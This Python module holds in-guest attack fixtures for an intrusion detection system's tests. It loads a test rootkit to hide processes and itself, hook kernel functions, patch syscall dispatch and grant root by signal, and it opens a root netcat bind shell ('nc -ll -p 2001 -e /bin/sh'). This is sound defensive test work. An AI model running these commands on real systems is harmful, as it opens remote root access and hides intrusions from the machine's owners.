"""In-guest attack fixtures for vigil's IDS tests, over a booted tests/e2e/guest.py Guest.

Contract: each fixture function activates one attack inside the guest and returns an Attack:
its evidence (a dict of what a test asserts on: pid, port, module name, hooked symbol and
address, ...) as attributes and .evidence, and undo() which reverts it (idempotent; also on
leaving a `with` block). Every function checks, in the guest's own view, that the attack took
effect and raises AttackError otherwise, so a fixture that silently does nothing cannot make a
detector test pass.

    from attacks import bind_shell, hide_process
    with bind_shell(g) as a:          # busybox nc -ll -p 2001 -e /bin/sh
        ... vigil scan, assert on a.pid, a.port ...
    a = hide_process(g)               # loads vigil_rk hide_pid=<a fresh sleep>
    a.undo()                          # rmmod restores the task list, kills the sleep

Rootkit fixtures use tests/fixtures/rootkit (vigil_rk.ko built against the guest's own
kernel headers; see vigil_rk.c for what each parameter does). One vigil_rk can be loaded at a
time. hide_module(mode=2) cannot be undone: the module is unloadable and the guest must be
thrown away (Attack.undo raises AttackError; use a guest_factory guest for it).

Low level: build_rootkit(), load_rootkit(guest, **params) -> dict, unload_rootkit(guest).
"""

import base64
import gzip
import hashlib
import re
import struct
import subprocess
import time
from pathlib import Path

from guest import REPO, GuestError

ROOTKIT_BUILD = REPO / "tests" / "fixtures" / "rootkit" / "build.sh"
MODULE = "vigil_rk"
GUEST_KO = "/root/vigil_rk.ko"
ROOT_SIGNAL = 64
NR_KILL = 62  # x86-64
BINDSHELL_PORT = 2001
IFF_PROMISC = 0x100


class AttackError(GuestError):
    pass


class Attack:
    """One active attack: .what (its name), evidence as attributes, undo() to revert."""

    def __init__(self, _what, _undo, **evidence):
        self.what = _what
        self.evidence = evidence
        self._undo = _undo
        self.active = True

    def __getattr__(self, name):
        try:
            return self.__dict__["evidence"][name]
        except KeyError:
            raise AttributeError(name) from None

    def undo(self):
        if self.active:
            self._undo()
            self.active = False

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.undo()

    def __repr__(self):
        return f"Attack({self.what}, {self.evidence})"


# ---- the rootkit module --------------------------------------------------------------------

_built = {}


def build_rootkit(timeout=900):
    """Run tests/fixtures/rootkit/build.sh (cached) -> Path of vigil_rk.ko ."""
    if "ko" not in _built:
        r = subprocess.run(["bash", str(ROOTKIT_BUILD)], capture_output=True, text=True,
                           timeout=timeout)
        if r.returncode != 0:
            raise AttackError(f"rootkit build.sh failed ({r.returncode}):\n{r.stderr[-4000:]}")
        _built["ko"] = Path(r.stdout.strip().splitlines()[-1])
    return _built["ko"]


def push_rootkit(guest):
    """Put vigil_rk.ko into /root in the guest, once per guest: the console carries ~600 bytes
    of base64 a command, so it goes gzip'd and the sha256 tells whether it is there already."""
    data = build_rootkit().read_bytes()
    want = hashlib.sha256(data).hexdigest()
    rc, out = guest.run_rc(f"sha256sum {GUEST_KO} 2>/dev/null")
    if rc == 0 and out.split()[:1] == [want]:
        return
    guest.push_file(gzip.compress(data, 9), GUEST_KO + ".gz", mode=0o600)
    guest.run(f"gunzip -f {GUEST_KO}.gz")


def rootkit_loaded(guest):
    """True when the guest's /proc/modules lists vigil_rk (a hidden one is not listed)."""
    return any(m["name"] == MODULE for m in guest.guest_modules())


def _kmsg_mark(guest):
    tag = f"vigil-attacks-{time.monotonic_ns()}"
    guest.run(f"echo {tag} > /dev/kmsg")
    return tag


def _kmsg_since(guest, tag):
    out = guest.run("dmesg")
    return out.split(tag, 1)[-1] if tag in out else ""


def load_rootkit(guest, **params):
    """insmod vigil_rk.ko with params (hide_pid=N, hide_self=1|2, hook="ftrace"|"kprobe",
    hook_sym=..., sct=1, root_signal=1) -> dict of what the module did, from its parameters
    in sysfs and its kernel log lines: module, params, hook, hook_sym, hook_addr,
    struct_module (address of its struct module, when hidden), hidden_pid/hidden_task,
    sys_call_table, sct_orig, sct_new."""
    push_rootkit(guest)
    args = " ".join(f"{k}={int(v) if isinstance(v, bool) else v}" for k, v in params.items())
    tag = _kmsg_mark(guest)
    rc, out = guest.run_rc(f"insmod {GUEST_KO} {args}")
    log = _kmsg_since(guest, tag)
    if rc != 0:
        raise AttackError(f"insmod vigil_rk {args} failed ({rc}): {out}\n{log}")
    info = {"module": MODULE, "params": dict(params), "log": log}
    m = re.search(r"vigil_rk: (\w+) hook on (\S+) at ([0-9a-f]+)", log)
    if m:
        info.update(hook=m.group(1), hook_sym=m.group(2), hook_addr=int(m.group(3), 16))
    m = re.search(r"vigil_rk: hid pid (\d+) \((.*)\) task ([0-9a-f]+)", log)
    if m:
        info.update(hidden_pid=int(m.group(1)), hidden_comm=m.group(2),
                    hidden_task=int(m.group(3), 16))
    m = re.search(r"vigil_rk: sys_call_table ([0-9a-f]+) \[(\d+)\] ([0-9a-f]+) -> ([0-9a-f]+) "
                  r"\(x64_sys_call (\w+)\)", log)
    if m:
        info.update(sys_call_table=int(m.group(1), 16), sct_nr=int(m.group(2)),
                    sct_orig=int(m.group(3), 16), sct_new=int(m.group(4), 16),
                    x64_sys_call=m.group(5) == "present")
    m = re.search(r"vigil_rk: module hidden \(mode (\d)\), struct module ([0-9a-f]+)", log)
    if m:
        info.update(hidden_mode=int(m.group(1)), struct_module=int(m.group(2), 16))
    guest._vigil_rk = info
    return info


def unload_rootkit(guest):
    """rmmod vigil_rk (unhiding it first if hide_self=1). Raises for hide_self=2."""
    info = getattr(guest, "_vigil_rk", None)
    if info and info.get("hidden_mode") == 2:
        raise AttackError("vigil_rk was loaded with hide_self=2: it cannot be unloaded; "
                          "throw the guest away")
    if info and info.get("hidden_mode") == 1:
        guest.run(f"echo 0 > /sys/module/{MODULE}/parameters/hide_self")
    rc, out = guest.run_rc(f"rmmod {MODULE}")
    if rc != 0 and rootkit_loaded(guest):
        raise AttackError(f"rmmod {MODULE} failed: {out}")
    guest._vigil_rk = None


def kpeek(guest, addr, count=1):
    """8-byte words of kernel memory at addr as the guest reads them through /proc/kcore
    (the guest's own view, independent of the module's word) -> [int]. The ELF program
    headers are fetched with dd and parsed here; the words are read with dd too."""
    if "_vigil_kcore" not in guest.__dict__:
        raw = base64.b64decode(guest.run("dd if=/proc/kcore bs=4096 count=1 2>/dev/null | "
                                         "base64"))
        phoff, = struct.unpack_from("<Q", raw, 0x20)
        phentsize, phnum = struct.unpack_from("<HH", raw, 0x36)
        loads = []
        for i in range(min(phnum, 256)):
            o = phoff + i * phentsize
            if o + 56 > len(raw):
                break
            p_type, _, p_offset, p_vaddr, _, _, p_memsz, _ = struct.unpack_from("<IIQQQQQQ",
                                                                                raw, o)
            if p_type == 1:
                loads.append((p_vaddr, p_memsz, p_offset))
        guest._vigil_kcore = loads
    for vaddr, size, off in guest._vigil_kcore:
        if vaddr <= addr and addr + 8 * count <= vaddr + size:
            pos = off + addr - vaddr
            break
    else:
        raise AttackError(f"{addr:#x} is not in /proc/kcore")
    if pos % 8:
        raise AttackError("unaligned kpeek")
    raw = base64.b64decode(guest.run(f"dd if=/proc/kcore bs=8 skip={pos // 8} count={count} "
                                     "2>/dev/null | base64"))
    return list(struct.unpack(f"<{count}Q", raw))


def ksym(guest, name):
    """Address of a kernel (or visible module) symbol from the guest's /proc/kallsyms."""
    # Module symbols end in "\t[module]".
    out = guest.run(f"grep -m1 -E ' {re.escape(name)}([[:space:]]|$)' /proc/kallsyms",
                    check=False)
    f = out.split()
    return int(f[0], 16) if len(f) >= 3 and f[2] == name else None


# ---- helpers ---------------------------------------------------------------------------------

def _spawn(guest, cmd):
    """Start cmd in the background -> its pid. From a subshell, so it is init's child and not
    a job of the console shell (whose "Killed" notices would land in later output)."""
    out = guest.run(f"({cmd} >/dev/null 2>&1 & echo $!)")
    return int(out.split()[-1])


def _alive(guest, pid):
    return guest.run_rc(f"[ -d /proc/{pid} ]")[0] == 0


def _kill(guest, *pids):
    pids = " ".join(str(p) for p in pids if p)
    if pids:
        guest.run(f"kill -9 {pids} 2>/dev/null; true")


def proc_status(guest, pid):
    """{key: value} from /proc/PID/status in the guest."""
    res = {}
    for line in guest.run(f"cat /proc/{pid}/status").splitlines():
        k, _, v = line.partition(":")
        res[k.strip()] = v.strip()
    return res


def _unload_after(guest, extra=None):
    def undo():
        try:
            unload_rootkit(guest)
        finally:
            if extra:
                extra()
    return undo


# ---- rootkit fixtures ------------------------------------------------------------------------

def hide_process(guest, pid=None):
    """Unlink a process from the task list. Without pid, a fresh `sleep 4343` run as the
    vigil user (uid 1000) is the victim and is killed again by undo().
    Evidence: pid, comm, uid, module, task (task_struct address)."""
    own = pid is None
    if own:
        pid = _spawn(guest, "su -s /bin/sh -c 'exec sleep 4343' vigil")
        time.sleep(0.3)
    comm = guest.run(f"cat /proc/{pid}/comm").strip()
    uid = int(proc_status(guest, pid)["Uid"].split()[0])
    try:
        info = load_rootkit(guest, hide_pid=pid)
    except BaseException:
        if own:
            _kill(guest, pid)
        raise
    if info.get("hidden_pid") != pid:
        raise AttackError(f"vigil_rk did not report hiding {pid}: {info['log']}")
    return Attack("hide-process", _unload_after(guest, (lambda: _kill(guest, pid)) if own
                                                else None),
                  pid=pid, comm=comm, uid=uid, module=MODULE, task=info["hidden_task"])


def hide_module(guest, mode=1):
    """vigil_rk hides itself: mode 1 off the module list (sysfs stays, undo works), mode 2
    also off sysfs (undo raises: the guest must be discarded).
    Evidence: module, mode, struct_module (address of its struct module)."""
    info = load_rootkit(guest, hide_self=mode)
    if rootkit_loaded(guest):
        raise AttackError("vigil_rk still in /proc/modules after hide_self")
    return Attack("hide-module", _unload_after(guest), module=MODULE, mode=mode,
                  struct_module=info["struct_module"])


def kernel_hook(guest, kind="ftrace", symbol="__x64_sys_kill", root_signal=False):
    """An ftrace_ops or a kprobe by vigil_rk on a kernel function.
    Evidence: module, kind ("ftrace"|"kprobe"), symbol, address (of the hooked function)."""
    if kind not in ("ftrace", "kprobe"):
        raise ValueError(kind)
    params = {"hook": kind, "hook_sym": symbol}
    if root_signal:
        params["root_signal"] = 1
    info = load_rootkit(guest, **params)
    if info.get("hook_sym") != symbol:
        raise AttackError(f"vigil_rk did not report the hook: {info['log']}")
    return Attack(f"{kind}-hook", _unload_after(guest), module=MODULE, kind=kind,
                  symbol=symbol, address=info["hook_addr"], root_signal=root_signal)


def syscall_table_hook(guest):
    """vigil_rk overwrites sys_call_table[__NR_kill] (62). On this 6.1 kernel syscalls are
    dispatched by x64_sys_call's switch, so the slot is tampered but unused.
    Evidence: module, table (address of sys_call_table), nr, orig (__x64_sys_kill's address),
    value (the module's rk_sct_kill), orig_symbol."""
    info = load_rootkit(guest, sct=1)
    if "sys_call_table" not in info:
        raise AttackError(f"vigil_rk did not report the overwrite: {info['log']}")
    slot = info["sys_call_table"] + 8 * info["sct_nr"]
    seen = kpeek(guest, slot)[0]
    if seen != info["sct_new"]:
        raise AttackError(f"sys_call_table[{info['sct_nr']}] reads {seen:#x} in the guest, "
                          f"expected {info['sct_new']:#x}")
    return Attack("syscall-table", _unload_after(guest), module=MODULE,
                  table=info["sys_call_table"], nr=info["sct_nr"], orig=info["sct_orig"],
                  value=info["sct_new"], orig_symbol="__x64_sys_kill",
                  dispatcher=info["x64_sys_call"])


def privilege_escalation(guest):
    """A uid-1000 shell (parent) starts a uid-1000 shell that sends kill -64 to itself: the
    rootkit's hooked kill (ftrace on __x64_sys_kill, root_signal=1) makes it root, and it
    spawns a root child (sleep 6464). Loads vigil_rk unless one is loaded already.
    Evidence: parent_pid (uid 1000), pid (the escalated shell, now uid 0), child_pid (uid 0,
    comm sleep), module, symbol."""
    hooked = getattr(guest, "_vigil_rk", None)
    own_rk = hooked is None
    if own_rk:
        hooked = load_rootkit(guest, hook="ftrace", root_signal=1)
    guest.run("rm -f /tmp/.vg-esc.*")
    # \$\$ reaches the inner sh unexpanded: it is the escalating process; its child is the
    # root sleep. The outer sh (su execs it) stays as the unprivileged parent.
    inner = ("kill -64 \\$\\$; echo \\$\\$ > /tmp/.vg-esc.pid; "
             "sleep 6464 & echo \\$! > /tmp/.vg-esc.child; wait")
    parent = _spawn(guest, f"su -s /bin/sh -c 'sh -c \"{inner}\"; sleep 6465' vigil")
    deadline = time.monotonic() + 30
    while guest.run_rc("[ -s /tmp/.vg-esc.child ]")[0] != 0:
        if time.monotonic() > deadline:
            _kill(guest, parent)
            raise AttackError("privilege escalation did not happen: "
                              + guest.run("ls -l /tmp/.vg-esc.* 2>&1; dmesg | tail -5"))
        time.sleep(0.2)
    pid = int(guest.run("cat /tmp/.vg-esc.pid"))
    child = int(guest.run("cat /tmp/.vg-esc.child"))
    guest.run("rm -f /tmp/.vg-esc.*")
    ids = {p: int(proc_status(guest, p)["Uid"].split()[0]) for p in (parent, pid, child)}
    if ids != {parent: 1000, pid: 0, child: 0}:
        _kill(guest, child, pid, parent)
        raise AttackError(f"unexpected uids after kill -64: {ids}")

    def undo():
        _kill(guest, child, pid, parent)
        if own_rk:
            unload_rootkit(guest)
    return Attack("privilege-escalation", undo, parent_pid=parent, pid=pid, child_pid=child,
                  module=MODULE, symbol=hooked.get("hook_sym", "__x64_sys_kill"))


# ---- deeper rootkit fixtures: inline patch, dispatcher redirect, running hidden task ---------

def _kbytes(guest, addr, n):
    """n bytes of kernel memory at addr as the guest reads them through /proc/kcore."""
    base = addr & ~7
    words = kpeek(guest, base, (addr + n - base + 7) // 8)
    raw = struct.pack(f"<{len(words)}Q", *words)
    return raw[addr - base:addr - base + n]


def inline_patch(guest, symbol="__x64_sys_sysfs"):
    """vigil_rk writes a 5-byte jmp into symbol's code (after its ftrace nop) to a function of
    its own, through a writable vmap alias of the text page. The function then returns -ENOSYS
    (pick one nothing calls). Evidence: module, symbol, address (of the jmp), target."""
    info = load_rootkit(guest, patch_text=symbol)
    m = re.search(r"vigil_rk: patched (\S+) at ([0-9a-f]+): jmp ([0-9a-f]+)", info["log"])
    if not m or m.group(1) != symbol:
        unload_rootkit(guest)
        raise AttackError(f"vigil_rk did not report the patch: {info['log']}")
    addr, target = int(m.group(2), 16), int(m.group(3), 16)
    code = _kbytes(guest, addr, 5)
    rel = struct.unpack("<i", code[1:5])[0]
    if code[0] != 0xE9 or addr + 5 + rel != target:
        unload_rootkit(guest)
        raise AttackError(f"{symbol} at {addr:#x} reads {code.hex()} in the guest")
    return Attack("inline-patch", _unload_after(guest), module=MODULE, symbol=symbol,
                  address=addr, target=target)


def dispatcher_hook(guest):
    """vigil_rk rewrites x64_sys_call's `jmp __x64_sys_kill` to go to its own function (which
    calls the real handler): kill(2) now runs through the module, with no table touched.
    Evidence: module, site (address of the jmp), offset (in x64_sys_call), target."""
    info = load_rootkit(guest, dispatch=1)
    m = re.search(r"vigil_rk: dispatcher x64_sys_call\+0x([0-9a-f]+) (jmp|call) "
                  r"__x64_sys_kill -> ([0-9a-f]+)", info["log"])
    if not m:
        unload_rootkit(guest)
        raise AttackError(f"vigil_rk did not report the redirect: {info['log']}")
    off, target = int(m.group(1), 16), int(m.group(3), 16)
    site = ksym(guest, "x64_sys_call") + off
    code = _kbytes(guest, site, 5)
    before = int(guest.run(f"cat /sys/module/{MODULE}/parameters/hits"))
    guest.run("kill -0 1")
    after = int(guest.run(f"cat /sys/module/{MODULE}/parameters/hits"))
    if site + 5 + struct.unpack("<i", code[1:5])[0] != target or after <= before:
        unload_rootkit(guest)
        raise AttackError(f"dispatcher not redirected: {code.hex()}, hits {before}->{after}")
    return Attack("dispatcher-hook", _unload_after(guest), module=MODULE, site=site,
                  offset=off, target=target, insn=m.group(2))


def hide_running_process(guest):
    """A busy-looping process (uid 1000) unlinked from the task list by vigil_rk: it keeps
    running, so the scheduler's run queues hold it (chkrootkit's ps-vs-/proc check misses this
    case: /proc still lists it). Evidence: pid, comm ("sh"), task, module."""
    pid = _spawn(guest, "su -s /bin/sh -c 'exec sh -c \"while :; do :; done\"' vigil")
    time.sleep(0.3)
    if proc_status(guest, pid).get("State", "")[:1] != "R":
        _kill(guest, pid)
        raise AttackError(f"spinner {pid} is not running")
    try:
        info = load_rootkit(guest, hide_pid=pid)
    except BaseException:
        _kill(guest, pid)
        raise
    if info.get("hidden_pid") != pid:
        _undo = _unload_after(guest, lambda: _kill(guest, pid))
        _undo()
        raise AttackError(f"vigil_rk did not report hiding {pid}: {info['log']}")
    return Attack("hide-running-process", _unload_after(guest, lambda: _kill(guest, pid)),
                  pid=pid, comm=info["hidden_comm"], task=info["hidden_task"], module=MODULE)


def guest_tracing(guest, kprobe="vfs_read+9"):
    """The guest's own tracers patch kernel text: the sched_switch tracepoint (a jump label),
    a kprobe event at kprobe (int3 or an optimized jmp), a kprobe event on a function entry
    (ftrace-based) and the function tracer on one function (an ftrace trampoline). Not an
    attack: what the text view must not report. Evidence: kprobes (the guest's kprobe list)."""
    t = "/sys/kernel/tracing"
    guest.run(f"[ -e {t}/kprobe_events ] || mount -t tracefs none {t}")
    guest.run(f"echo 1 > {t}/events/sched/sched_switch/enable && "
              f"echo 'p:vg_deep1 {kprobe}' >> {t}/kprobe_events && "
              f"echo 'p:vg_deep2 do_sys_openat2' >> {t}/kprobe_events && "
              f"echo 1 > {t}/events/kprobes/enable && "
              f"echo vfs_write > {t}/set_ftrace_filter && echo function > {t}/current_tracer")
    kps = guest.run("cat /sys/kernel/debug/kprobes/list 2>/dev/null; true")

    def undo():
        guest.run(f"echo nop > {t}/current_tracer; echo > {t}/set_ftrace_filter; "
                  f"echo 0 > {t}/events/kprobes/enable; echo 0 > {t}/events/sched/sched_switch/"
                  f"enable; echo > {t}/kprobe_events")
    if "vfs_write" not in guest.run(f"cat {t}/enabled_functions") or \
            kprobe.split("+")[0] not in kps:
        undo()  # the tests after this one must not run with tracing left on
        raise AttackError(f"tracing not enabled: {kps}")
    return Attack("guest-tracing", undo, kprobes=kps)


# ---- fixtures without the rootkit ------------------------------------------------------------

def bind_shell(guest, port=BINDSHELL_PORT):
    """busybox `nc -ll -p PORT -e /bin/sh` (root): a shell for whoever connects. busybox nc
    listens on an AF_INET6 socket bound to :: (dual-stack), so it is in /proc/net/tcp6.
    Evidence: pid, port, comm ("nc"), uid 0, family ("tcp6")."""
    pid = _spawn(guest, f"nc -ll -p {port} -e /bin/sh")
    deadline = time.monotonic() + 20
    while not (family := listening(guest, port)):
        if time.monotonic() > deadline or not _alive(guest, pid):
            _kill(guest, pid)
            raise AttackError(f"nc did not listen on {port}")
        time.sleep(0.2)
    return Attack("bind-shell", lambda: _kill(guest, pid), pid=pid, port=port, comm="nc", uid=0,
                  family=family)


def _listen_entry(guest, port):
    for fam in ("tcp", "tcp6"):
        for line in guest.run(f"cat /proc/net/{fam}").splitlines()[1:]:
            f = line.split()
            if len(f) > 9 and f[1].endswith(f":{port:04X}") and f[3] == "0A":
                return fam, int(f[9])
    return None, None


def listening(guest, port):
    """"tcp" or "tcp6" when a socket listens on TCP port in the guest (/proc/net), else None."""
    return _listen_entry(guest, port)[0]


def listening_inode(guest, port):
    """Inode of the socket listening on TCP port (the link in its owner's /proc/PID/fd)."""
    return _listen_entry(guest, port)[1]


def iface_flags(guest, iface):
    """The interface's flags (IFF_*) from sysfs: busybox ip prints IFF_PROMISC as a bare
    "100" after the named flags."""
    return int(guest.run(f"cat /sys/class/net/{iface}/flags").strip(), 16)


def deleted_tmp_binary(guest, path="/tmp/.dropper"):
    """Copy /bin/vigil-worker to path, run it, delete the file: a process whose executable is
    deleted and lived in /tmp. Evidence: pid, exe (path), comm."""
    pid = _spawn(guest, f"cp /bin/vigil-worker {path} && exec {path} --mode bot --id 66")
    time.sleep(0.5)
    guest.run(f"rm {path}")
    exe = guest.run(f"readlink /proc/{pid}/exe").strip()
    if exe != f"{path} (deleted)":
        _kill(guest, pid)
        raise AttackError(f"/proc/{pid}/exe is {exe!r}")
    comm = guest.run(f"cat /proc/{pid}/comm").strip()
    return Attack("deleted-binary", lambda: _kill(guest, pid), pid=pid, exe=path, comm=comm)


def promisc(guest, iface="vg-dummy0"):
    """Switch iface to promiscuous mode (what a sniffer does). Evidence: interface."""
    guest.run(f"ip link set {iface} promisc on")
    if not iface_flags(guest, iface) & IFF_PROMISC:
        raise AttackError(f"{iface} not in promiscuous mode")
    return Attack("promisc", lambda: guest.run(f"ip link set {iface} promisc off"),
                  interface=iface)


# ---- chkrootkit inside the guest, for comparison ---------------------------------------------

CHKROOTKIT_GUEST_SH = REPO / "tests" / "fixtures" / "rootkit" / "chkrootkit-guest.sh"


def chkrootkit_image(timeout=900):
    """Image directory of the guest variant with Debian's chkrootkit (Guest(image_dir=...))."""
    r = subprocess.run(["bash", str(CHKROOTKIT_GUEST_SH)], capture_output=True, text=True,
                       timeout=timeout)
    if r.returncode != 0:
        raise AttackError(f"chkrootkit-guest.sh failed ({r.returncode}):\n{r.stderr[-4000:]}")
    return Path(r.stdout.strip().splitlines()[-1])


def run_chkrootkit(guest, *tests, timeout=900):
    """Run chkrootkit [tests...] in a chkrootkit guest -> (verdicts, output): verdicts maps
    each "Checking `X'" and "Searching for ..." line to its last word (not found, not
    infected, WARNING, INFECTED, not tested, finished...). Under TCG one run of lkm takes
    about a minute."""
    out = guest.run("PATH=/bin:/usr/sbin chkrootkit " + " ".join(tests), timeout=timeout)
    verdicts = {}
    for line in out.splitlines():
        m = re.match(r"(Checking `([\w.-]+)'|Searching for (.*?))\.\.\.\s+(.*)$", line)
        if m:
            verdicts[m.group(2) or m.group(3).strip()] = m.group(4).strip()
    return verdicts, out
